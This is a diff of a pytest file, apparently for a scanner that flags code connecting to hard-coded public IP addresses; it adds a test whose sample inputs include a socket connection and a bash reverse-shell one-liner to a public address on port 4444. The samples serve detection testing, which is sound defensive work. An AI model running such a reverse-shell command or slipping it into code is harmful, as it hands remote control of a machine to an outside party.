@@ -66,9 +66,22 @@ def test_a_sink_without_a_real_token_is_not(url: str) -> None:
         "http:\\/\\/45.76.12.34",
     ],
 )
-def test_a_public_address_is_found_in_code_only(url: str) -> None:
+def test_a_public_address_in_a_url_is_found_in_code_only(url: str) -> None:
     assert found(f"fetch('{url}')") == ADDRESS
     assert found(f'{{"server": "{url}"}}', "settings.json") == {}
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "net.connect(4444, '45.76.12.34')",
+        'http.request({ hostname: "45.76.12.34", port: 80 })',
+        'exec("bash -i >& /dev/tcp/45.76.12.34/4444 0>&1")',
+    ],
+)
+def test_a_socket_to_a_public_address_is_found(code: str) -> None:
+    assert found(code) == ADDRESS
+    assert found(code.replace("45.76.12.34", "10.76.12.34")) == {}
 
 
 @pytest.mark.parametrize(
